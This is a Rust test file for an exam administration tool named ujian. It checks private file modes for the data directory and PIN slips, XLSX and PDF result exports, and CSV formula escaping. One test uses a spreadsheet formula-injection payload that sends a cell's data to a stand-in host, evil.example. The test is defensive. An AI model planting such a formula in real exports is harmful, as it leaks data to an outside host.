//! What ujian leaves on disk: file modes in the data dir and PIN slips, and result CSVs a
//! spreadsheet opens without running anything in them.

use std::path::Path;
use std::process::Command;

use serde_json::json;

use crate::helpers::{PIN, Setup, TestApp, best_and_worst, participant, repo};

fn ujian(args: &[&str]) -> (i32, String, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_ujian")).args(args).current_dir(repo("")).output().expect("run ujian");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into(),
        String::from_utf8_lossy(&out.stderr).into(),
    )
}

#[cfg(unix)]
fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::metadata(path).unwrap_or_else(|e| panic!("{}: {e}", path.display())).permissions().mode() & 0o777
}

/// Every directory under `dir` (itself included) and every file in them, with its mode.
#[cfg(unix)]
fn modes_under(dir: &Path) -> Vec<(String, u32)> {
    let mut out = vec![(dir.display().to_string(), mode(dir))];
    for entry in std::fs::read_dir(dir).expect("read dir") {
        let path = entry.expect("entry").path();
        if path.is_dir() {
            out.extend(modes_under(&path));
        } else {
            out.push((path.display().to_string(), mode(&path)));
        }
    }
    out
}

#[cfg(unix)]
#[test]
fn another_user_on_the_machine_cannot_read_the_data_dir_or_the_pin_slips() {
    let dir = tempfile::tempdir().expect("tmp");
    let data = dir.path().join("data");
    let d = data.to_str().expect("utf8");
    let csv = dir.path().join("peserta.csv");
    std::fs::write(&csv, "participant_no,name\nA-1,Ani\n").expect("write");
    let pins = dir.path().join("pins.csv");
    for args in [
        vec!["--data-dir", d, "exam", "import", "question-banks/exams/sample-en.toml"],
        vec![
            "--data-dir",
            d,
            "candidates",
            "import",
            csv.to_str().expect("utf8"),
            "--pins-out",
            pins.to_str().expect("utf8"),
        ],
    ] {
        let (code, out, err) = ujian(&args);
        assert_eq!(code, 0, "{out}{err}");
    }
    assert_eq!(mode(&pins), 0o600, "PIN slips");
    let modes = modes_under(&data);
    assert!(modes.iter().any(|(p, _)| p.ends_with("ujian.db")), "{modes:?}");
    assert!(modes.iter().any(|(p, _)| p.ends_with("pin-hmac.key")), "{modes:?}");
    for (path, m) in &modes {
        let expected = if Path::new(path).is_dir() { 0o700 } else { 0o600 };
        assert_eq!(*m, expected, "{path}: {m:o}");
    }
}

#[cfg(unix)]
#[tokio::test]
async fn the_database_and_its_journal_files_are_private_even_without_the_binarys_umask() {
    // The test process keeps its own umask: the store sets the modes itself.
    let app = TestApp::spawn(Setup::tiny(1)).await;
    let _c = app.candidate(1).await;
    for file in ["ujian.db", "ujian.db-wal", "ujian.db-shm"] {
        let path = app.dir.path().join(file);
        assert_eq!(mode(&path), 0o600, "{file}");
    }
}

#[tokio::test]
async fn a_candidate_named_like_a_formula_is_exported_as_text_and_negative_scores_stay_numbers() {
    let mut app = TestApp::spawn(Setup::tiny(1)).await;
    let formula = r#"=HYPERLINK("http://evil.example/?d="&A1,"Klik")"#;
    let pins = server::credentials::PinKey::load_or_create(app.dir.path()).expect("pin key");
    let renamed = store::NewCandidate {
        participant_no: participant(1),
        name: formula.into(),
        birth_date: None,
        pin_hash: pins.hash_pin(&participant(1), PIN),
        accommodation: None,
    };
    app.store().put_candidates(&[renamed], chrono::Utc::now()).await.expect("rename");
    // Both keyed questions answered wrong: -1 each (the tiny exam's rule).
    let mut c = app.candidate(1).await;
    let key = best_and_worst(&app, &format!("T-1.{}", participant(1))).await;
    for (q, (_, worst, ..)) in key.iter().enumerate().take(2) {
        c.answer(q, Some(worst)).await;
    }
    c.finish().await;
    let (dir, url) = (app.dir.path().to_owned(), app.url.clone());
    app.shutdown().await;
    let (code, out, err) = ujian(&[
        "--data-dir",
        dir.to_str().expect("utf8"),
        "--database",
        &url,
        "results",
        "export",
        "--sitting",
        "T-1",
        "--provisional",
    ]);
    assert_eq!(code, 0, "{err}");
    let mut reader = csv::Reader::from_reader(out.as_bytes());
    let headers = reader.headers().expect("header").clone();
    let row = reader.records().next().expect("a row").expect("csv");
    let cell = |name: &str| row.get(headers.iter().position(|h| h == name).expect(name)).expect(name).to_owned();
    assert_eq!(cell("name"), format!("'{formula}"), "the name is text, not a formula");
    assert_eq!(cell("K"), "-2", "a negative score stays a number");
    assert_eq!(cell("total").parse::<i64>().ok(), Some(-2));
}

/// The strings a PDF shows (`(…) Tj` in its uncompressed content streams), in order.
fn pdf_texts(pdf: &[u8]) -> Vec<String> {
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(start) = pdf[i..].iter().position(|b| *b == b'(').map(|p| i + p) {
        // A literal string: balanced parentheses may stand unescaped inside it.
        let (mut text, mut depth, mut j) = (Vec::new(), 0, start + 1);
        while j < pdf.len() && (pdf[j] != b')' || depth > 0) {
            match pdf[j] {
                b'\\' => j += 1,
                b'(' => depth += 1,
                b')' => depth -= 1,
                _ => {}
            }
            text.push(pdf[j]);
            j += 1;
        }
        if pdf[j + 1..].starts_with(b" Tj") {
            out.push(text.iter().map(|b| char::from(*b)).collect());
        }
        i = j + 1;
    }
    out
}

/// The XLSX's "Hasil" sheet, each row's cells as text.
fn xlsx_rows(bytes: Vec<u8>) -> Vec<Vec<String>> {
    use calamine::Reader as _;
    let mut book: calamine::Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).expect("an xlsx");
    let range = book.worksheet_range("Hasil").expect("a sheet Hasil");
    range.rows().map(|r| r.iter().map(ToString::to_string).collect()).collect()
}

#[tokio::test]
async fn the_published_list_comes_as_xlsx_and_pdf_with_its_heading_and_provisional_marks() {
    let mut app = TestApp::spawn(Setup::tiny(4)).await;
    // 1 and 2 answer everything best (tied), 3 everything worst, 4 never comes.
    for i in 1..=3 {
        let mut c = app.candidate(i).await;
        let key = best_and_worst(&app, &format!("T-1.{}", participant(i))).await;
        for (q, (best, worst, ..)) in key.iter().enumerate() {
            c.answer(q, Some(if i < 3 { best } else { worst })).await;
        }
        c.finish().await;
    }
    let dir = tempfile::tempdir().expect("tmp");
    let data = app.dir.path().to_str().expect("utf8").to_owned();
    let url = app.url.clone();
    let export = |format: &'static str, provisional: bool| {
        let out = dir.path().join(format!("hasil-{provisional}.{format}"));
        let mut args = vec!["--data-dir", &data, "--database", &url, "results", "export", "--sitting", "T-1"];
        args.extend(["--openings", "1", "--formation", "Analis Kebijakan", "--format", format]);
        args.extend(["--out", out.to_str().expect("utf8")]);
        if provisional {
            args.push("--provisional");
        }
        let args: Vec<String> = args.iter().map(|s| (*s).to_owned()).collect();
        async move {
            let run =
                tokio::process::Command::new(env!("CARGO_BIN_EXE_ujian")).args(&args).output().await.expect("run");
            assert!(run.status.success(), "{format}: {}", String::from_utf8_lossy(&run.stderr));
            std::fs::read(&out).expect("the export")
        }
    };

    // While the sitting is open: marked provisional under the title and on every line.
    let rows = xlsx_rows(export("xlsx", true).await);
    assert_eq!(rows[0][0], "PENGUMUMAN HASIL TINY EXAM");
    assert_eq!(rows[1][0], "Sesi T-1, Test");
    let month = ["Januari", "Februari", "Maret", "April", "Mei", "Juni", "Juli", "Agustus", "September"];
    let month = month.iter().chain(&["Oktober", "November", "Desember"]);
    assert!(month.into_iter().any(|m| rows[2][0].contains(&format!(" {m} 20"))), "{:?}", rows[2]);
    assert_eq!(rows[3][0], "Formasi: Analis Kebijakan");
    assert!(rows[4][0].starts_with("SEMENTARA (PROVISIONAL): sesi T-1"), "{:?}", rows[4]);
    let header = rows.iter().position(|r| r.first().is_some_and(|c| c == "Status")).expect("the table's header");
    assert_eq!(rows[header], ["Status", "Formasi", "Peringkat", "No. Peserta", "Nama", "K", "W", "Total", "Kode"]);
    let lines = &rows[header + 1..header + 5];
    assert!(lines.iter().all(|l| l[0] == "SEMENTARA"), "{lines:?}");
    let pdf = pdf_texts(&export("pdf", true).await);
    assert!(pdf.iter().any(|t| t.starts_with("SEMENTARA (PROVISIONAL): sesi T-1")), "{pdf:?}");
    assert_eq!(pdf.iter().filter(|t| *t == "SEMENTARA").count(), 4, "{pdf:?}");

    let sup = app.staff("sup1").await;
    let (status, _) = app.act(&sup, "/api/v1/sittings/T-1/close", json!({ "reason": "sesi selesai" })).await;
    assert_eq!(status, 200);
    app.shutdown().await;

    let rows = xlsx_rows(export("xlsx", false).await);
    assert!(rows.iter().flatten().all(|c| !c.contains("SEMENTARA")), "a final list is not marked: {rows:?}");
    let header = rows.iter().position(|r| r.first().is_some_and(|c| c == "Formasi")).expect("the table's header");
    assert_eq!(rows[header], ["Formasi", "Peringkat", "No. Peserta", "Nama", "K", "W", "Total", "Kode"]);
    let line = |i: usize| rows[header + i][1..].iter().map(String::as_str).collect::<Vec<_>>();
    assert_eq!(rows[header + 1][0], "Analis Kebijakan");
    assert_eq!(line(1)[..3], ["1", "P-0001", "Peserta 1"]);
    assert_eq!(line(2)[..3], ["1", "P-0002", "Peserta 2"], "tied: the same rank");
    assert_eq!((line(1)[6], line(2)[6], line(3)[6], line(4)[6]), ("P/L", "P/L", "TL", "TH"));
    assert_eq!(line(3)[..3], ["", "P-0003", "Peserta 3"], "below a threshold: no rank");
    assert!(rows.last().expect("legend")[0].starts_with("Keterangan: P/L = "), "{rows:?}");

    let pdf = pdf_texts(&export("pdf", false).await);
    assert!(!pdf.iter().any(|t| t.contains("SEMENTARA")), "{pdf:?}");
    for shown in ["PENGUMUMAN HASIL TINY EXAM", "Sesi T-1, Test", "Formasi: Analis Kebijakan", "Halaman 1 dari 1"] {
        assert!(pdf.iter().any(|t| t == shown), "{shown:?} not in {pdf:?}");
    }
    let from = pdf.iter().position(|t| t == "Formasi").expect("the table's header");
    assert_eq!(pdf[from..from + 8], ["Formasi", "Peringkat", "No. Peserta", "Nama", "K", "W", "Total", "Kode"]);
    let p1 = pdf.iter().position(|t| t == "P-0001").expect("P-0001's line");
    assert_eq!(pdf[p1 - 2..p1 + 2], ["Analis Kebijakan", "1", "P-0001", "Peserta 1"]);
    assert_eq!(pdf[p1 + 5], "P/L", "{:?}", &pdf[p1..p1 + 6]);
}
